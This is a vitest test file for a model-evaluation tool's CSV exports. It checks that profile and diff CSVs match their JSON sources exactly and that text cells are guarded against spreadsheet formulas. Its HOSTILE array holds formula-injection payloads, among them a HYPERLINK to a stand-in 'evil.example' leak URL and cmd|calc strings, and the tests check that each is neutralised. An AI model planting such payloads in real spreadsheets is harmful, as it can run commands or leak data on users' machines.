import { existsSync, promises as fsp, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../src/cli/main.js';
import type { AppContext } from '../src/core/context.js';
import { writeSyntheticRun } from '../src/devtools/simulate/write-synthetic-run.js';
import { type DiffFile, DiffFileSchema, diffQFamily, qFamilyText } from '../src/records/diff.js';
import { type ProfileFile, ProfileFileSchema, type Proportion } from '../src/records/profile.js';
import { diffCsv } from '../src/stages/analyze/diff/diff-csv.js';
import { profileCsv } from '../src/stages/analyze/profile/profile-csv.js';

/** Value names a judge could pass on from model output, each of which a spreadsheet would run as a formula. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?leak=1","click me")', '@SUM(1+1)*cmd|calc', '+1+cmd'];
const FORMULA_START = /^[=+\-@\t\r]/;

let dir: string;
function ctx(): AppContext & { out: string[]; err: string[] } {
  const out: string[] = [];
  const err: string[] = [];
  return {
    cwd: dir,
    env: {},
    out,
    err,
    stdout: { write: (s: string) => out.push(s) },
    stderr: { write: (s: string) => err.push(s) },
    now: () => new Date('2026-01-02T00:00:00Z'),
    fetch: globalThis.fetch,
    signal: new AbortController().signal,
  };
}
const common = { scenarioSeed: 7, domains: 3, scenariosPerDomain: 20, samples: 3, watchRate: 0 };

/** Renames the synthetic run's commonest values (name and taxonomy leaf) to the hostile names. */
async function plantHostileValues(runDir: string): Promise<void> {
  const file = path.join(runDir, 'judgments.jsonl');
  let text = await fsp.readFile(file, 'utf8');
  HOSTILE.forEach((name, i) => {
    text = text.replaceAll(`"value ${i}"`, JSON.stringify(name));
  });
  await fsp.writeFile(file, text);
}

beforeAll(async () => {
  dir = mkdtempSync(path.join(tmpdir(), 'vs-csv-'));
  await writeSyntheticRun(path.join(dir, 'base'), [{ ...common, seed: 1, modelId: 'm-old' }]);
  await writeSyntheticRun(path.join(dir, 'cand'), [
    { ...common, seed: 2, modelId: 'm-new', shift: { responseType: 'strong_resistance', delta: -0.3, domain: 'domain-01' } },
  ]);
  await writeSyntheticRun(path.join(dir, 'two'), [
    { ...common, seed: 3, modelId: 'a' },
    { ...common, seed: 4, modelId: 'b' },
  ]);
  for (const run of ['base', 'cand', 'two']) await plantHostileValues(path.join(dir, run));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

type Row = Record<string, string>;

async function readCsv(file: string): Promise<{ header: string[]; rows: Row[]; text: string }> {
  const text = await fsp.readFile(file, 'utf8');
  const records: string[][] = parse(text);
  const [header = [], ...body] = records;
  return { header, rows: body.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? '']))), text };
}

/** A numeric cell holds exactly the JSON number; null is an empty cell. */
function expectNumber(cell: string | undefined, value: number | null, where: string): void {
  if (value === null) expect(cell, where).toBe('');
  else {
    expect(cell, where).toMatch(/^-?\d+(\.\d+)?$/); // plain decimal: no exponent, no percent sign
    expect(Number(cell), where).toBe(value);
  }
}

/** A text cell holds the text, with an apostrophe in front when it would start a formula. */
function guarded(text: string | null): string {
  if (text === null) return '';
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** No text cell of the file starts a formula; numbers (negative ones included) stay numbers. */
function expectNoFormula(rows: Row[]): void {
  for (const r of rows) {
    for (const [col, cell] of Object.entries(r)) {
      if (FORMULA_START.test(cell)) expect(cell, `${col}: ${cell}`).toMatch(/^-\d+(\.\d+)?$/);
    }
  }
}

function expectProfileRows(profile: ProfileFile, rows: Row[]): void {
  const expected = profile.models.flatMap((m) => [
    ...Object.entries(m.overall.metrics).map(([metric, p]) => ({ model: m.modelId, domain: null, metric, p })),
    ...Object.entries(m.domains).flatMap(([domain, s]) =>
      Object.entries(s.metrics).map(([metric, p]) => ({ model: m.modelId, domain: domain as string | null, metric, p })),
    ),
  ]);
  expect(rows).toHaveLength(expected.length);
  expected.forEach((e, i) => {
    const r = rows[i]!;
    const where = `row ${i + 2}: ${e.model} ${e.metric} ${e.domain ?? '(overall)'}`;
    expect([r.model_id, r.run_id, r.metric, r.domain], where).toEqual([e.model, profile.runId, guarded(e.metric), e.domain ?? '']);
    for (const k of ['k', 'n', 'estimate', 'lo', 'hi'] as const) expectNumber(r[k], (e.p as Proportion)[k], `${where} ${k}`);
    expectNumber(r.level, profile.settings.level, where);
  });
}

describe('profile.csv', () => {
  it('has one row per model x metric x domain with exactly the numbers of profile.json', async () => {
    const c = ctx();
    expect(await main(['profile', 'two', '--resamples', '100'], c)).toBe(0);
    expect(c.out.join('')).toMatch(/wrote two\/profile\.json, two\/profile\.csv/);
    const profile = ProfileFileSchema.parse(JSON.parse(await fsp.readFile(path.join(dir, 'two', 'profile.json'), 'utf8')));
    const { header, rows } = await readCsv(path.join(dir, 'two', 'profile.csv'));
    expect(header).toEqual([
      'model_id',
      'run_id',
      'metric',
      'family',
      'name',
      'taxonomy_level',
      'domain',
      'share_of',
      'k',
      'n',
      'estimate',
      'lo',
      'hi',
      'level',
      'corrected_estimate',
      'corrected_lo',
      'corrected_hi',
      'corrected_labelled',
      'corrected_reason',
    ]);
    expect(new Set(rows.map((r) => r.model_id))).toEqual(new Set(['a', 'b']));
    expectProfileRows(profile, rows);
    const rt = rows.find((r) => r.metric === 'response_type:strong_resistance')!;
    expect([rt.family, rt.name, rt.taxonomy_level, rt.share_of]).toEqual(['response_type', 'strong_resistance', '', 'responses']);
    const cat = rows.find((r) => r.metric?.startsWith('category:l3:'))!;
    expect([cat.family, cat.taxonomy_level]).toEqual(['category', 'l3']);
    expect(rows.find((r) => r.metric === 'mirroring')?.share_of).toBe('responses where the user states values');
    expectNoFormula(rows);
  });

  it('puts the value names from model output behind an apostrophe, quoted per RFC 4180', async () => {
    const { rows, text } = await readCsv(path.join(dir, 'two', 'profile.csv'));
    for (const raw of HOSTILE) {
      const name = raw.toLowerCase();
      const named = rows.filter((r) => r.metric === `value:${name}`);
      expect(named.length, name).toBeGreaterThan(0);
      for (const r of named) expect(r.name).toBe(`'${name}`);
    }
    // The HYPERLINK name holds quotes and a comma: the cell is quoted, its quotes doubled.
    expect(text).toContain(`"'=hyperlink(""http://evil.example/?leak=1"",""click me"")"`);
    expect(text).not.toMatch(/(^|,)=hyperlink/m);
  });

  it('sits beside every profile JSON: profile-<model>.json and the --out copy', async () => {
    expect(await main(['profile', 'two#b', '--resamples', '0', '--out', 'exports/b-profile.json'], ctx())).toBe(0);
    for (const json of ['two/profile-b.json', 'exports/b-profile.json']) {
      const profile = ProfileFileSchema.parse(JSON.parse(await fsp.readFile(path.join(dir, json), 'utf8')));
      const { rows } = await readCsv(path.join(dir, json.replace(/\.json$/, '.csv')));
      expect(new Set(rows.map((r) => r.model_id))).toEqual(new Set(['b']));
      expectProfileRows(profile, rows);
    }
  });
});

function expectDiffRows(diff: DiffFile, rows: Row[]): void {
  expect(rows).toHaveLength(diff.metrics.length * 2);
  const family = qFamilyText(diffQFamily(diff));
  diff.metrics.forEach((m, i) => {
    for (const [j, side] of (['base', 'candidate'] as const).entries()) {
      const r = rows[i * 2 + j]!;
      const s = side === 'base' ? diff.base : diff.cand;
      const point = side === 'base' ? m.base : m.cand;
      const where = `row ${i * 2 + j + 2}: ${m.metric} ${m.domain ?? '(overall)'} ${side}`;
      expect([r.metric, r.domain, r.side, r.model_id, r.run_id], where).toEqual([
        guarded(m.metric),
        m.domain ?? '',
        side,
        s.modelId,
        s.runId,
      ]);
      for (const k of ['k', 'n', 'estimate'] as const) expectNumber(r[k], point[k], `${where} ${k}`);
      for (const k of ['delta', 'lo', 'hi', 'p', 'q'] as const) expectNumber(r[k], m[k], `${where} ${k}`);
      expectNumber(r.level, diff.settings.level ?? null, where);
      expect(r.q_family, where).toBe(m.q === null ? '' : family);
      expect(r.significant, where).toBe(String(m.significant));
      expect(r.aliases, where).toBe((m.aliases ?? []).map((a) => `${guarded(a.metric)} (${a.relation})`).join('; '));
    }
  });
}

describe('diff.csv', () => {
  it('has one row per metric x domain x side with exactly the numbers of diff.json', async () => {
    const c = ctx();
    expect(await main(['diff', 'base', 'cand', '--out', 'd', '--resamples', '300'], c)).toBe(0);
    expect(c.out.join('')).toMatch(/wrote d\/diff\.json, diff\.csv and diff\.md/);
    const diff = DiffFileSchema.parse(JSON.parse(await fsp.readFile(path.join(dir, 'd', 'diff.json'), 'utf8')));
    const { header, rows, text } = await readCsv(path.join(dir, 'd', 'diff.csv'));
    expect(header).toEqual([
      'metric',
      'family',
      'name',
      'taxonomy_level',
      'domain',
      'share_of',
      'side',
      'model_id',
      'run_id',
      'k',
      'n',
      'estimate',
      'delta',
      'lo',
      'hi',
      'level',
      'p',
      'q',
      'q_family',
      'significant',
      'aliases',
      'corrected_estimate',
      'corrected_lo',
      'corrected_hi',
      'corrected_labelled',
      'corrected_reason',
    ]);
    expectDiffRows(diff, rows);
    // The fixture exercises every kind of cell: domains, untested rows, aliases, significance, a drop.
    expect(diff.metrics.some((m) => m.domain !== null)).toBe(true);
    expect(diff.metrics.some((m) => m.q === null)).toBe(true);
    expect(diff.metrics.some((m) => (m.aliases ?? []).length > 0)).toBe(true);
    expect(rows.some((r) => r.significant === 'true')).toBe(true);
    // A negative change is a number, not text behind an apostrophe.
    expect(text).toMatch(/,candidate,m-new,cand,\d+,\d+,[\d.]+,-0\.\d+,/);
    for (const raw of HOSTILE) expect(rows.filter((r) => r.name === `'${raw.toLowerCase()}`)).toHaveLength(2);
    expectNoFormula(rows);
  });
});

describe('CSV exports on invalid input', () => {
  it('are not written when the command refuses its input', async () => {
    expect(await main(['profile', 'two#zzz'], ctx())).toBe(2);
    expect(existsSync(path.join(dir, 'two', 'profile-zzz.csv'))).toBe(false);
    await fsp.mkdir(path.join(dir, 'empty'));
    expect(await main(['profile', 'empty'], ctx())).toBe(2);
    expect(await fsp.readdir(path.join(dir, 'empty'))).toEqual([]);
    await writeSyntheticRun(path.join(dir, 'otherjudge'), [{ ...common, seed: 5, modelId: 'm-old', judgeHash: 'another' }]);
    const c = ctx();
    expect(await main(['diff', 'base', 'otherjudge', '--out', 'dj'], c)).toBe(2);
    expect(c.err.join('')).toMatch(/--allow-judge-mismatch/);
    expect(existsSync(path.join(dir, 'dj', 'diff.csv'))).toBe(false);
    expect(await main(['diff', 'base#nobody', 'cand', '--out', 'dn'], ctx())).toBe(2);
    expect(existsSync(path.join(dir, 'dn'))).toBe(false);
  });
});

describe('CSV cells', () => {
  it('write tiny and huge numbers in plain decimals that read back exactly, and guard text', () => {
    const tiny = -2.7755575615628914e-17;
    const diff = DiffFileSchema.parse({
      ...JSON.parse(JSON.stringify(minimalDiff)),
      metrics: [{ ...minimalDiff.metrics[0], delta: tiny, lo: 1e-7, hi: 1.5e21 }],
    });
    const [header = [], base = [], cand = []] = parse(diffCsv(diff)) as string[][];
    const at = (row: string[], col: string) => row[header.indexOf(col)];
    expect([at(base, 'delta'), at(base, 'lo'), at(base, 'hi')]).toEqual([
      '-0.000000000000000027755575615628914',
      '0.0000001',
      '1500000000000000000000',
    ]);
    expect([Number(at(cand, 'delta')), Number(at(cand, 'lo')), Number(at(cand, 'hi'))]).toEqual([tiny, 1e-7, 1.5e21]);
    expect([at(base, 'model_id'), at(cand, 'model_id')]).toEqual(["'-1 model", "'@cand"]);
    expect(at(base, 'level')).toBe('0.95'); // files written before the level was recorded: 95%
    const profile = { ...minimalProfile, models: [] };
    expect(profileCsv(profile).trim().split('\n')).toHaveLength(1); // header only
  });
});

const diffSide = (modelId: string) => ({
  spec: 'r',
  runDir: 'r',
  runId: null,
  modelId,
  suiteHash: null,
  judgeHashes: [],
  judgeIds: [],
  scenarios: 1,
  judged: 1,
  errored: 0,
});
const minimalDiff = {
  v: 1,
  kind: 'diff',
  generatedAt: '2026-01-01T00:00:00Z',
  harnessVersion: '0',
  base: diffSide('-1 model'),
  cand: diffSide('@cand'),
  comparability: { suiteHashMatch: true, judgeHashMatch: true, warnings: [] },
  scenarios: { shared: 1, baseOnly: [], candOnly: [], changed: [] },
  settings: { resamples: 0, seed: 1, alpha: 0.05, minCount: 5, test: 't' },
  metrics: [
    {
      metric: 'any_value',
      domain: null,
      base: { k: 1, n: 2, estimate: 0.5 },
      cand: { k: 1, n: 2, estimate: 0.5 },
      delta: 0,
      lo: 0,
      hi: 0,
      p: null,
      q: null,
      significant: false,
    },
  ],
  distances: [],
  appeared: [],
  vanished: [],
  summary: { tested: 0, significant: 0 },
} as const;
const minimalProfile: ProfileFile = {
  v: 1,
  kind: 'profile',
  generatedAt: '2026-01-01T00:00:00Z',
  harnessVersion: '0',
  runDir: 'r',
  runId: null,
  suiteHash: null,
  settings: {
    resamples: 0,
    seed: 1,
    level: 0.95,
    interval: 'cluster-wilson-t (linearised ratio; domains of fewer than 5 scenarios pooled)',
  },
  models: [],
  notes: [],
};
